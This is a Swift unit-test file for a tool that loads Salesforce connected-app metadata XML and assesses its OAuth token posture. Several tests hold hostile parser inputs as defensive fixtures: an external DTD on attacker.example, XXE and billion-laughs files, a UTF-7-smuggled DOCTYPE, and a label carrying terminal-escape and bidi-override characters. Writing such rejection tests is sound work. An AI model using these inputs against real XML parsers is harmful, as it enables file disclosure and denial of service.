import Foundation
import XCTest
@testable import TokenHoundKit

enum PostureFixtures {
    static let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Fixtures/posture").path
    static let sfdx = root + "/sfdx"
    static let forceApp = root + "/sfdx/force-app"
    static let bad = root + "/bad"

    /// A fresh temporary directory, removed by the caller's `addTeardownBlock`.
    static func tempDir(_ test: XCTestCase) throws -> String {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("posture-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        test.addTeardownBlock { try? FileManager.default.removeItem(atPath: dir) }
        return dir
    }

    static func write(_ text: String, to path: String) throws {
        try FileManager.default.createDirectory(atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
    }

    static func connectedApp(label: String, oauthConfig: String = "", oauthPolicy: String = "", extra: String = "") -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <ConnectedApp xmlns="http://soap.sforce.com/2006/04/metadata">
            <label>\(label)</label>
            <oauthConfig>\(oauthConfig)</oauthConfig>
            <oauthPolicy>\(oauthPolicy)</oauthPolicy>\(extra)
        </ConnectedApp>
        """
    }

    /// A posture whose optional facts score zero points, so one fact at a time can be tested.
    static func neutral(_ kind: AppPosture.AppKind, secret: Bool?) -> AppPosture {
        AppPosture(kind: kind, developerName: "Neutral", label: "Neutral", secretRequiredForRefresh: secret, refreshTokenRotation: false,
                   consumerSecretOptional: false, pkceRequired: false, ipRelaxation: .enforce, refreshTokenPolicy: .unknown("test"),
                   permittedUsers: .adminApprovedPreAuthorized, scopes: ["Api"], hasIPRanges: false, sourceFiles: [], asOf: nil)
    }
}

final class PostureLoaderTests: XCTestCase {
    private func app(_ apps: [AppPosture], _ dev: String, file: StaticString = #filePath, line: UInt = #line) throws -> AppPosture {
        try XCTUnwrap(apps.first { $0.developerName == dev }, "no app \(dev) in \(apps.map(\.developerName))", file: file, line: line)
    }

    func testSfdxProjectLoadsAllAppsAndSkipsHiddenCaches() throws {
        let (apps, diagnostics) = PostureLoader.load(paths: [PostureFixtures.sfdx])
        XCTAssertEqual(apps.map(\.developerName), ["Acme_Sync", "Drift", "Gearset", "Minimal", "Misplaced", "Weird"])
        XCTAssertFalse(apps.contains { $0.label == "Cached Drift" }, ".sfdx cache must be skipped")
        XCTAssertEqual(apps.filter { $0.developerName == "Drift" }.count, 1)
        // Only the deliberately odd Weird file produces warnings; nothing is an error.
        XCTAssertFalse(diagnostics.contains { $0.severity == .error }, "\(diagnostics.map(\.rendered))")
        XCTAssertTrue(diagnostics.allSatisfy { $0.file.hasSuffix("Weird.connectedApp-meta.xml") }, "\(diagnostics.map(\.rendered))")
    }

    func testDriftLikeControlOffInfiniteTokens() throws {
        let drift = try app(PostureLoader.load(paths: [PostureFixtures.forceApp]).apps, "Drift")
        XCTAssertEqual(drift.kind, .connectedApp)
        XCTAssertEqual(drift.label, "Drift")
        XCTAssertEqual(drift.secretRequiredForRefresh, false)
        XCTAssertEqual(drift.refreshTokenRotation, false)
        XCTAssertEqual(drift.consumerSecretOptional, false)
        XCTAssertEqual(drift.pkceRequired, false)
        XCTAssertEqual(drift.ipRelaxation, .enforce)
        XCTAssertEqual(drift.refreshTokenPolicy, .infinite)
        XCTAssertEqual(drift.permittedUsers, .allSelfAuthorized)
        XCTAssertEqual(drift.scopes, ["Api", "RefreshToken", "Full"])
        XCTAssertFalse(drift.hasIPRanges)
        XCTAssertEqual(drift.sourceFiles, [PostureFixtures.forceApp + "/main/default/connectedApps/Drift.connectedApp-meta.xml"])
        XCTAssertNotNil(drift.asOf)
    }

    func testGearsetLikeControlOnWithRotation() throws {
        let g = try app(PostureLoader.load(paths: [PostureFixtures.forceApp]).apps, "Gearset")
        XCTAssertEqual(g.label, "Gearset Deploy")
        XCTAssertEqual(g.secretRequiredForRefresh, true)
        XCTAssertEqual(g.refreshTokenRotation, true)
        XCTAssertEqual(g.pkceRequired, true)
        XCTAssertEqual(g.permittedUsers, .adminApprovedPreAuthorized)
        XCTAssertEqual(g.refreshTokenPolicy, .specificInactivity(30, "DAYS"))
        XCTAssertEqual(g.ipRelaxation, .enforce)
        XCTAssertTrue(g.hasIPRanges)
        XCTAssertEqual(g.scopes, ["Api", "RefreshToken"])
    }

    func testMisplacedRotationAndNamespacePrefixes() throws {
        let m = try app(PostureLoader.load(paths: [PostureFixtures.forceApp]).apps, "Misplaced")
        XCTAssertEqual(m.label, "Misplaced Rotation")
        XCTAssertEqual(m.secretRequiredForRefresh, false)
        XCTAssertEqual(m.refreshTokenRotation, true, "rotation under oauthPolicy must be accepted")
        XCTAssertEqual(m.refreshTokenPolicy, .specificLifetime(12, "HOURS"))
        XCTAssertEqual(m.scopes, ["Api"])
    }

    func testUnknownEnumValuesAreUnknownNotDefault() throws {
        let (apps, diagnostics) = PostureLoader.load(paths: [PostureFixtures.forceApp])
        let w = try app(apps, "Weird")
        XCTAssertEqual(w.ipRelaxation, .unknown("ENFORCE_SOMETIMES"))
        XCTAssertEqual(w.refreshTokenPolicy, .unknown("forever"))
        XCTAssertEqual(w.permittedUsers, .unknown("maybe"))
        XCTAssertEqual(w.label, "Weird\u{9B}31m\u{202E}App\tX")
        let warnings = diagnostics.filter { $0.severity == .warning }.map(\.message)
        XCTAssertEqual(warnings.count, 3, "\(warnings)")
        XCTAssertTrue(warnings.contains { $0.contains("ENFORCE_SOMETIMES") && $0.contains("unknown") })
        XCTAssertTrue(diagnostics.allSatisfy { $0.line != nil })
    }

    func testAbsentElementsTakeDocumentedDefaults() throws {
        let m = try app(PostureLoader.load(paths: [PostureFixtures.forceApp]).apps, "Minimal")
        XCTAssertEqual(m.secretRequiredForRefresh, true)     // isSecretRequiredForRefreshToken default true
        XCTAssertEqual(m.refreshTokenRotation, false)        // isRefreshTokenRotationEnabled default false
        XCTAssertEqual(m.consumerSecretOptional, false)      // isConsumerSecretOptional default false
        XCTAssertEqual(m.pkceRequired, false)                // isPkceRequired default false
        XCTAssertEqual(m.permittedUsers, .allSelfAuthorized) // isAdminApproved default false
        XCTAssertEqual(m.ipRelaxation, .enforce)             // ipRelaxation default ENFORCE
        XCTAssertEqual(m.refreshTokenPolicy, .infinite)      // refreshTokenPolicy default infinite
        XCTAssertEqual(m.scopes, [])
        XCTAssertFalse(m.hasIPRanges)
    }

    func testLabelFallsBackToDeveloperNameAndBadBooleanIsUnknown() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write(PostureFixtures.connectedApp(label: "", oauthConfig: "<isSecretRequiredForRefreshToken>yes</isSecretRequiredForRefreshToken>"),
                                  to: dir + "/NoLabel.connectedApp-meta.xml")
        let (apps, diagnostics) = PostureLoader.load(paths: [dir])
        XCTAssertEqual(apps.first?.label, "NoLabel")
        XCTAssertNil(apps.first?.secretRequiredForRefresh)
        XCTAssertTrue(diagnostics.contains { $0.severity == .warning && $0.message.contains("'yes'") && $0.line == 4 }, "\(diagnostics)")
    }

    func testExternalClientAppFilesMergeByDeveloperName() throws {
        let (apps, _) = PostureLoader.load(paths: [PostureFixtures.forceApp])
        let eca = try app(apps, "Acme_Sync")
        XCTAssertEqual(eca.kind, .externalClientApp)
        XCTAssertEqual(eca.label, "Acme Sync")
        XCTAssertEqual(eca.secretRequiredForRefresh, false)
        XCTAssertEqual(eca.refreshTokenRotation, false)
        XCTAssertEqual(eca.pkceRequired, false)
        XCTAssertEqual(eca.consumerSecretOptional, false)
        XCTAssertEqual(eca.ipRelaxation, .enforceRelaxRefresh)
        XCTAssertEqual(eca.permittedUsers, .allSelfAuthorized)
        XCTAssertEqual(eca.refreshTokenPolicy, .specificLifetime(24, "HOURS"))
        XCTAssertEqual(eca.scopes, ["Api", "RefreshToken", "OpenID"])
        XCTAssertEqual(eca.sourceFiles.count, 4)
        XCTAssertEqual(eca.sourceFiles, eca.sourceFiles.sorted())
        XCTAssertEqual(apps.filter { $0.kind == .externalClientApp }.count, 1, "the trio must merge into one app")
    }

    func testExternalClientAppDefaultsAndMissingFilesAreUnknown() throws {
        let dir = try PostureFixtures.tempDir(self)
        let ns = "xmlns=\"http://soap.sforce.com/2006/04/metadata\""
        try PostureFixtures.write("<ExternalClientApplication \(ns)><masterLabel>Bare ECA</masterLabel></ExternalClientApplication>",
                                  to: dir + "/Bare.eca-meta.xml")
        try PostureFixtures.write("<ExtlClntAppGlobalOauthSettings \(ns)><externalClientApplication>Bare</externalClientApplication></ExtlClntAppGlobalOauthSettings>",
                                  to: dir + "/g/Bare_glbl.ecaGlblOauth-meta.xml")
        try PostureFixtures.write("<ExtlClntAppOauthConfigurablePolicies \(ns)><externalClientApplication>Bare</externalClientApplication></ExtlClntAppOauthConfigurablePolicies>",
                                  to: dir + "/p/Bare_plcy.ecaOauthPlcy-meta.xml")
        try PostureFixtures.write("<ExternalClientApplication \(ns)><label>Lonely</label></ExternalClientApplication>",
                                  to: dir + "/Lonely.eca-meta.xml")
        let (apps, diagnostics) = PostureLoader.load(paths: [dir])
        let bare = try app(apps, "Bare")
        XCTAssertEqual(bare.label, "Bare ECA")
        XCTAssertEqual(bare.secretRequiredForRefresh, true)   // ECA default true
        XCTAssertEqual(bare.refreshTokenRotation, false)
        XCTAssertEqual(bare.pkceRequired, true)               // ECA default true
        XCTAssertEqual(bare.ipRelaxation, .enforce)
        XCTAssertEqual(bare.permittedUsers, .allSelfAuthorized)
        XCTAssertEqual(bare.refreshTokenPolicy, .infinite)
        let lonely = try app(apps, "Lonely")
        XCTAssertNil(lonely.secretRequiredForRefresh)
        XCTAssertNil(lonely.refreshTokenRotation)
        XCTAssertEqual(lonely.ipRelaxation, .unknown("not supplied"))
        XCTAssertEqual(lonely.refreshTokenPolicy, .unknown("not supplied"))
        XCTAssertEqual(lonely.permittedUsers, .unknown("not supplied"))
        XCTAssertTrue(diagnostics.contains { $0.message.contains("'Lonely'") && $0.message.contains("ecaGlblOauth") })
        XCTAssertEqual(PostureAssessment(lonely).impactScore, 78, "unknown control on an ECA scores as control off")
    }

    func testMalformedXMLGivesDiagnosticWithLineAndOthersStillLoad() throws {
        let (apps, diagnostics) = PostureLoader.load(paths: [PostureFixtures.bad])
        XCTAssertEqual(apps.map(\.developerName), ["Fine"])
        let broken = try XCTUnwrap(diagnostics.first { $0.file.hasSuffix("Broken.connectedApp-meta.xml") })
        XCTAssertEqual(broken.severity, .error)
        XCTAssertEqual(broken.line, 5)
        XCTAssertTrue(broken.message.hasPrefix("malformed XML"), broken.message)
        XCTAssertTrue(broken.rendered.contains("Broken.connectedApp-meta.xml:5: error: malformed XML"), broken.rendered)
    }

    func testXXEIsRejectedAndNeverResolved() throws {
        let (apps, diagnostics) = PostureLoader.load(paths: [PostureFixtures.bad + "/Xxe.connectedApp-meta.xml"])
        XCTAssertTrue(apps.isEmpty)
        let d = try XCTUnwrap(diagnostics.first)
        XCTAssertEqual(d.severity, .error)
        XCTAssertEqual(d.line, 2)
        XCTAssertTrue(d.message.contains("ENTITY") && d.message.contains("external entity"), d.message)
        XCTAssertFalse(d.message.contains("root:"), "must never echo the entity's target")
    }

    func testBillionLaughsIsRejectedNotExpanded() throws {
        let start = Date()
        let (apps, diagnostics) = PostureLoader.load(paths: [PostureFixtures.bad + "/Laughs.connectedApp-meta.xml"])
        XCTAssertTrue(apps.isEmpty)
        let d = try XCTUnwrap(diagnostics.first)
        XCTAssertEqual(d.severity, .error)
        XCTAssertTrue(d.message.contains("billion laughs"), d.message)
        XCTAssertLessThan(Date().timeIntervalSince(start), 2)
    }

    func testPlainDoctypeIsRejected() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write("<?xml version=\"1.0\"?>\n<!DOCTYPE ConnectedApp SYSTEM \"http://attacker.example/x.dtd\">\n<ConnectedApp><label>X</label></ConnectedApp>",
                                  to: dir + "/Dtd.connectedApp-meta.xml")
        let (apps, diagnostics) = PostureLoader.load(paths: [dir])
        XCTAssertTrue(apps.isEmpty)
        XCTAssertEqual(diagnostics.first?.line, 2)
        XCTAssertTrue(diagnostics.first?.message.contains("DOCTYPE") ?? false)
    }

    func testDepthSizeTextAndEncodingLimits() throws {
        let dir = try PostureFixtures.tempDir(self)
        let deep = String(repeating: "<a>", count: 100) + String(repeating: "</a>", count: 100)
        try PostureFixtures.write("<ConnectedApp><label>Deep</label>\(deep)</ConnectedApp>", to: dir + "/Deep.connectedApp-meta.xml")
        var (apps, diagnostics) = PostureLoader.load(paths: [dir + "/Deep.connectedApp-meta.xml"])
        XCTAssertTrue(apps.isEmpty)
        XCTAssertTrue(diagnostics.first?.message.contains("nesting deeper than 64") ?? false, "\(diagnostics)")

        let small = PostureFixtures.connectedApp(label: "Big")
        try PostureFixtures.write(small, to: dir + "/Big.connectedApp-meta.xml")
        (apps, diagnostics) = PostureLoader.load(paths: [dir + "/Big.connectedApp-meta.xml"], limits: PostureXMLLimits(maxFileBytes: 100))
        XCTAssertTrue(apps.isEmpty)
        XCTAssertTrue(diagnostics.first?.message.contains("100-byte limit") ?? false, "\(diagnostics)")

        (apps, diagnostics) = PostureLoader.load(paths: [dir + "/Big.connectedApp-meta.xml"], limits: PostureXMLLimits(maxTextBytes: 8))
        XCTAssertTrue(apps.isEmpty)
        XCTAssertTrue(diagnostics.first?.message.contains("bytes of text") ?? false, "\(diagnostics)")

        var utf16 = Data([0xFF, 0xFE])
        utf16.append(small.data(using: .utf16LittleEndian)!)
        try utf16.write(to: URL(fileURLWithPath: dir + "/Wide.connectedApp-meta.xml"))
        (apps, diagnostics) = PostureLoader.load(paths: [dir + "/Wide.connectedApp-meta.xml"])
        XCTAssertTrue(apps.isEmpty)
        XCTAssertTrue(diagnostics.first?.message.contains("UTF-8") ?? false, "\(diagnostics)")
    }

    func testMissingPathsAndNonMetadataFiles() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write("hello", to: dir + "/notes.txt")
        let (apps, diagnostics) = PostureLoader.load(paths: [dir + "/nope", dir + "/notes.txt", dir])
        XCTAssertTrue(apps.isEmpty)
        XCTAssertTrue(diagnostics.contains { $0.severity == .error && $0.message == "no such file or directory" })
        XCTAssertTrue(diagnostics.contains { $0.severity == .warning && $0.file.hasSuffix("notes.txt") })
        XCTAssertTrue(diagnostics.contains { $0.severity == .warning && $0.file == dir && $0.message.contains("no connected app") })
    }

    func testMdapiSuffixAndAsOfIsNewestMtime() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write(PostureFixtures.connectedApp(label: "Old Style"), to: dir + "/connectedApps/OldStyle.connectedApp")
        let when = Date(timeIntervalSince1970: 1_754_654_400)   // 2025-08-08T12:00:00Z
        try FileManager.default.setAttributes([.modificationDate: when], ofItemAtPath: dir + "/connectedApps/OldStyle.connectedApp")
        let (apps, _) = PostureLoader.load(paths: [dir])
        let a = try app(apps, "OldStyle")
        XCTAssertEqual(a.asOf, EventTime(millis: 1_754_654_400_000))

        let eca = "xmlns=\"http://soap.sforce.com/2006/04/metadata\""
        try PostureFixtures.write("<ExternalClientApplication \(eca)><label>E</label></ExternalClientApplication>", to: dir + "/E.eca-meta.xml")
        try PostureFixtures.write("<ExtlClntAppGlobalOauthSettings \(eca)><externalClientApplication>E</externalClientApplication></ExtlClntAppGlobalOauthSettings>",
                                  to: dir + "/E_g.ecaGlblOauth-meta.xml")
        try FileManager.default.setAttributes([.modificationDate: when], ofItemAtPath: dir + "/E.eca-meta.xml")
        try FileManager.default.setAttributes([.modificationDate: when.addingTimeInterval(3600)], ofItemAtPath: dir + "/E_g.ecaGlblOauth-meta.xml")
        let e = try app(PostureLoader.load(paths: [dir]).apps, "E")
        XCTAssertEqual(e.asOf, EventTime(millis: 1_754_658_000_000))
    }

    func testDuplicateDeveloperNamesLastSortedPathWinsWhateverTheArgumentOrder() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write(PostureFixtures.connectedApp(label: "From A"), to: dir + "/a/Dup.connectedApp-meta.xml")
        try PostureFixtures.write(PostureFixtures.connectedApp(label: "From B"), to: dir + "/b/Dup.connectedApp-meta.xml")
        let one = PostureLoader.load(paths: [dir + "/a", dir + "/b"])
        let two = PostureLoader.load(paths: [dir + "/b", dir + "/a"])
        XCTAssertEqual(one.apps, two.apps)
        XCTAssertEqual(one.diagnostics, two.diagnostics)
        XCTAssertEqual(one.apps.map(\.label), ["From B"])
        XCTAssertEqual(one.diagnostics.count, 1)
        XCTAssertEqual(one.diagnostics.first?.severity, .warning)
        XCTAssertTrue(one.diagnostics.first?.message.contains("duplicate") ?? false)
        // The same file reached twice (overlapping paths) is not a duplicate.
        let overlap = PostureLoader.load(paths: [dir, dir + "/a"])
        XCTAssertEqual(overlap.apps.map(\.label), ["From B"])
        XCTAssertEqual(overlap.diagnostics.count, 1)
    }

    func testDeterministicAcrossPathOrder() throws {
        let one = PostureLoader.load(paths: [PostureFixtures.forceApp, PostureFixtures.bad])
        let two = PostureLoader.load(paths: [PostureFixtures.bad, PostureFixtures.forceApp])
        XCTAssertEqual(one.apps, two.apps)
        XCTAssertEqual(one.diagnostics, two.diagnostics)
        XCTAssertEqual(try PostureReport(apps: one.apps, diagnostics: one.diagnostics).renderJSON(),
                       try PostureReport(apps: two.apps, diagnostics: two.diagnostics).renderJSON())
    }

    func testValueParsers() {
        typealias P = AppPosture.RefreshTokenPolicy
        XCTAssertEqual(P(connectedAppValue: "infinite"), .infinite)
        XCTAssertEqual(P(connectedAppValue: "Zero"), .zero)
        XCTAssertEqual(P(connectedAppValue: "specific_lifetime:24:HOURS"), .specificLifetime(24, "HOURS"))
        XCTAssertEqual(P(connectedAppValue: "SPECIFIC_INACTIVITY:2:days"), .specificInactivity(2, "DAYS"))
        XCTAssertEqual(P(connectedAppValue: "specific_lifetime:x:HOURS"), .unknown("specific_lifetime:x:HOURS"))
        XCTAssertEqual(P(connectedAppValue: "specific_lifetime:3"), .unknown("specific_lifetime:3"))
        XCTAssertEqual(P(ecaType: "SpecificInactivity", period: "7", unit: "Days"), .specificInactivity(7, "DAYS"))
        XCTAssertEqual(P(ecaType: "SpecificLifetime", period: nil, unit: "Hours"), .unknown("SpecificLifetime::Hours"))
        XCTAssertEqual(P(ecaType: "Zero", period: nil, unit: nil), .zero)
        XCTAssertEqual(P(ecaType: "Forever", period: nil, unit: nil), .unknown("Forever"))
        XCTAssertEqual(P.specificLifetime(24, "HOURS").metadataValue, "specific_lifetime:24:HOURS")
        typealias I = AppPosture.IPRelaxation
        XCTAssertEqual(I(metadataValue: "ENFORCE"), .enforce)
        XCTAssertEqual(I(metadataValue: "Enforce_RelaxRefresh"), .enforceRelaxRefresh)
        XCTAssertEqual(I(metadataValue: "BYPASS_2FACTOR"), .bypassTwoFactor)
        XCTAssertEqual(I(metadataValue: "Bypass"), .bypass)
        XCTAssertEqual(I(metadataValue: "sometimes"), .unknown("sometimes"))
        XCTAssertEqual(AppPosture.PermittedUsers(metadataValue: "AdminApprovedPreAuthorized"), .adminApprovedPreAuthorized)
        XCTAssertEqual(AppPosture.PermittedUsers(metadataValue: "AllSelfAuthorized"), .allSelfAuthorized)
        XCTAssertEqual(AppPosture.PermittedUsers(metadataValue: "Everyone"), .unknown("Everyone"))
    }

    func testMatchesLabelOrDeveloperName() throws {
        let g = try app(PostureLoader.load(paths: [PostureFixtures.forceApp]).apps, "Gearset")
        XCTAssertTrue(g.matches(appName: "gearset deploy"))
        XCTAssertTrue(g.matches(appName: " GEARSET "))
        XCTAssertFalse(g.matches(appName: "Gear"))
        XCTAssertFalse(g.matches(appName: ""))
    }
}

final class PostureLoaderEdgeTests: XCTestCase {
    func testSymlinkLoopTerminates() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write(PostureFixtures.connectedApp(label: "Looped"), to: dir + "/x/L.connectedApp-meta.xml")
        try FileManager.default.createSymbolicLink(atPath: dir + "/x/loop", withDestinationPath: dir)
        let (apps, _) = PostureLoader.load(paths: [dir])
        XCTAssertEqual(apps.map(\.label), ["Looped"])
    }

    func testOnlyUTF8MayBeDeclared() throws {
        let dir = try PostureFixtures.tempDir(self)
        try PostureFixtures.write("<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADw-!DOCTYPE x+AD4-<ConnectedApp><label>X</label></ConnectedApp>",
                                  to: dir + "/U7.connectedApp-meta.xml")
        try PostureFixtures.write("<?xml version='1.0' encoding='utf-8'?><ConnectedApp><label>Ok</label></ConnectedApp>",
                                  to: dir + "/Ok.connectedApp-meta.xml")
        let (apps, diagnostics) = PostureLoader.load(paths: [dir])
        XCTAssertEqual(apps.map(\.label), ["Ok"])
        XCTAssertTrue(diagnostics.first?.message.contains("'utf-7'") ?? false, "\(diagnostics)")
    }
}
